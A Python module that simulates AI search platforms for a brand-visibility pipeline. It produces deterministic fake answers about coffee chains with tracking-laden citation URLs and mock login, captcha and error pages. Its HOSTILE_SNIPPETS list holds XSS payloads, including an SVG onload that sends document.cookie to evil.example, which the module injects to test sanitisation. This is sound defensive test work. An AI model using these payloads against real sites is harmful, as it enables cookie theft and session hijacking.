"""Deterministic answers of the simulated platforms: values in, values out.

The same (seed, idempotency key, question, profile) always yields the same answer, so a test can
predict what the pipeline must find, and a re-fetch of evidence returns identical bytes (R5: equal
answers on different days are still different samples — the key differs). Answers are Chinese or
English (from the question), mention the profile's brands at their rates and preferred positions,
cite URLs that carry tracking parameters (R18) and sometimes the brand's own domain, and a
configurable share is bad (empty, login page, error page, captcha, truncated — R22) or hostile
Markdown/HTML (R19).
"""

from __future__ import annotations

import hashlib
import random
import re
from dataclasses import dataclass, field

from geo_pipeline.simulator.profiles import BrandSpec, Profile

BAD_KINDS = ("empty", "login", "error_page", "captcha", "truncated")

_CJK = re.compile(r"[\u4e00-\u9fff]")

_ZH_SOURCES = (
    ("www.zhihu.com", "question", "知乎 - 有问题，就会有答案"),
    ("baike.baidu.com", "item", "百度百科"),
    ("www.smzdm.com", "p", "什么值得买"),
    ("www.sohu.com", "a", "搜狐网"),
    ("36kr.com", "p", "36氪"),
    ("www.dianping.com", "shop", "大众点评"),
    ("news.qq.com", "rain/a", "腾讯新闻"),
)
_EN_SOURCES = (
    ("en.wikipedia.org", "wiki", "Wikipedia"),
    ("www.reuters.com", "business", "Reuters"),
    ("www.bloomberg.com", "news/articles", "Bloomberg"),
    ("www.scmp.com", "business", "South China Morning Post"),
    ("www.reddit.com", "r/china/comments", "Reddit"),
    ("www.forbes.com", "sites", "Forbes"),
)
_TRACKING = (
    "utm_source=chatgpt.com",
    "utm_source=ai&utm_medium=referral&utm_campaign=geo",
    "spm=a2c6h.12873639.article-detail.7",
    "gclid=EAIaIQobChMI9v",
    "utm_source=feed&spm=1001.2101",
    "",  # some citations are clean
)

_ZH_PRAISE = (
    "性价比突出，门店覆盖广",
    "口碑稳定，适合日常饮用",
    "新品推出快，价格友好",
    "环境舒适，适合办公",
    "会员优惠多，小程序点单方便",
)
_EN_PRAISE = (
    "offers strong value for money and wide store coverage",
    "has a consistent reputation for everyday coffee",
    "launches new drinks quickly at friendly prices",
    "is comfortable for working and meetings",
    "runs generous member discounts through its app",
)

HOSTILE_SNIPPETS = (
    "<script>alert('xss')</script>",
    '<img src=x onerror="alert(document.cookie)">',
    "[点击领取优惠](javascript:alert(1))",
    "<svg onload=\"fetch('https://evil.example/steal?c='+document.cookie)\"></svg>",
    '<a href="javascript:void(0)" onclick="steal()">details</a>',
    '<svg><a xlink:href="javascript:alert(2)"><text x="0" y="15">click</text></a></svg>',
    '<iframe src="https://evil.example/frame"></iframe>',
)


@dataclass(frozen=True)
class GeneratedCitation:
    id: str
    url: str
    title: str


@dataclass(frozen=True)
class GeneratedAnswer:
    answer: str
    citations: tuple[GeneratedCitation, ...] = ()
    search_results: tuple[GeneratedCitation, ...] = ()
    truncated: bool = False
    kind: str = "normal"  # normal | hostile | one of BAD_KINDS
    mentioned: tuple[str, ...] = field(default=())  # brand names in mention order (for tests)


def unit(seed: int, key: str, salt: str) -> float:
    """A uniform number in [0, 1) fixed by (seed, key, salt): the simulator's only randomness."""
    digest = hashlib.blake2b(f"{seed}|{key}|{salt}".encode(), digest_size=8).digest()
    return int.from_bytes(digest, "big") / 2**64


def is_chinese(question: str, language: str = "auto") -> bool:
    if language in ("zh", "en"):
        return language == "zh"
    return bool(_CJK.search(question))


def _citation(rng: random.Random, zh: bool, n: int, slug: str) -> GeneratedCitation:
    host, path, title = rng.choice(_ZH_SOURCES if zh else _EN_SOURCES)
    tracking = rng.choice(_TRACKING)
    url = f"https://{host}/{path}/{slug}{rng.randrange(10**6, 10**7)}"
    if tracking:
        url += "?" + tracking
    return GeneratedCitation(str(n), url, title)


def _order_mentions(rng: random.Random, brands: list[BrandSpec]) -> list[BrandSpec]:
    weight = {"first": 0.0, "middle": 1.0, "last": 2.0}
    return sorted(brands, key=lambda b: (weight.get(b.position, rng.uniform(0.0, 2.0)), b.name))


def generate_answer(seed: int, key: str, question: str, profile: Profile) -> GeneratedAnswer:
    """The answer of one task, fixed by (seed, key, question, profile)."""
    rng = random.Random(hashlib.blake2b(f"{seed}|{key}|answer".encode(), digest_size=8).digest())
    zh = is_chinese(question, profile.language)
    if unit(seed, key, "bad") < profile.bad_answer_rate:
        kind = BAD_KINDS[int(unit(seed, key, "bad_kind") * len(BAD_KINDS))]
        if kind != "truncated":
            return GeneratedAnswer(_bad_page(kind, zh), kind=kind)
    else:
        kind = "normal"
    hostile = unit(seed, key, "hostile") < profile.hostile_rate

    mentioned = [b for b in profile.brands if rng.random() < b.mention_rate]
    mentioned = _order_mentions(rng, mentioned)
    lo, hi = profile.citations_range
    citations = [_citation(rng, zh, i + 1, "c") for i in range(rng.randint(lo, hi))]
    brand = profile.brands[0] if profile.brands else None
    if citations and brand and brand.domains and rng.random() < profile.brand_domain_citation_rate:
        domain = rng.choice(brand.domains)
        idx = rng.randrange(len(citations))
        citations[idx] = GeneratedCitation(
            str(idx + 1),
            f"https://www.{domain}/news/{rng.randrange(1000)}?utm_source=ai",
            brand.name,
        )
    slo, shi = profile.search_results_range
    retrieved = [_citation(rng, zh, 0, "r") for _ in range(rng.randint(slo, shi))]

    lines: list[str] = []
    if zh:
        lines.append(f"关于「{question.strip()}」，综合多方信息，推荐如下：")
    else:
        lines.append(f"Regarding “{question.strip()}”, here is a summary of the options:")
    lines.append("")
    for rank, b in enumerate(mentioned, start=1):
        label = rng.choice((b.name, *b.aliases)) if b.aliases and rng.random() < 0.3 else b.name
        ref = f" [{rng.randint(1, len(citations))}]" if citations else ""
        praise = rng.choice(_ZH_PRAISE if zh else _EN_PRAISE)
        lines.append(
            f"{rank}. **{label}**：{praise}。{ref}" if zh else f"{rank}. **{label}** {praise}.{ref}"
        )
    if not mentioned:
        lines.append(
            "目前没有明显领先的品牌，建议结合口味与价格自行比较。"
            if zh
            else "No chain clearly stands out; compare taste and price yourself."
        )
    if hostile:
        lines.append("")
        lines.append(HOSTILE_SNIPPETS[int(unit(seed, key, "hostile_kind") * len(HOSTILE_SNIPPETS))])
    lines.append("")
    lines.append(
        "总结：以上信息来自公开资料，仅供参考。"
        if zh
        else "In short: the information above comes from public sources and is for reference only."
    )
    if citations:
        lines.append("")
        lines.append("参考资料：" if zh else "Sources:")
        lines.extend(f"[{c.id}] [{c.title}]({c.url})" for c in citations)
    text = "\n".join(lines)
    truncated = kind == "truncated"
    if truncated:
        # Cut mid-answer, the way a platform that hit its output limit does.
        text = text[: max(8, len(text) // 3)]
    return GeneratedAnswer(
        answer=text,
        citations=tuple(citations),
        search_results=tuple(retrieved),
        truncated=truncated,
        kind="hostile" if hostile and not truncated else kind,
        mentioned=tuple(b.name for b in mentioned),
    )


def _bad_page(kind: str, zh: bool) -> str:
    if kind == "empty":
        return ""
    if kind == "login":
        return (
            "<html><head><title>登录</title></head><body><h1>请登录后继续使用</h1>"
            '<form action="/login"><input name="phone" placeholder="手机号"></form></body></html>'
            if zh
            else "<html><body><h1>Please log in to continue</h1>"
            '<form action="/login"><input name="email"></form></body></html>'
        )
    if kind == "error_page":
        return (
            "<html><head><title>502 Bad Gateway</title></head><body><center><h1>502 Bad Gateway"
            "</h1></center><hr><center>nginx</center></body></html>"
        )
    if kind == "captcha":
        return (
            "<html><body><h2>请完成安全验证</h2>"
            "<div class='captcha'>拖动滑块完成拼图</div></body></html>"
            if zh
            else "<html><body><h2>Verify you are human</h2><div class='captcha'>"
            "Select all images with traffic lights</div></body></html>"
        )
    raise ValueError(kind)
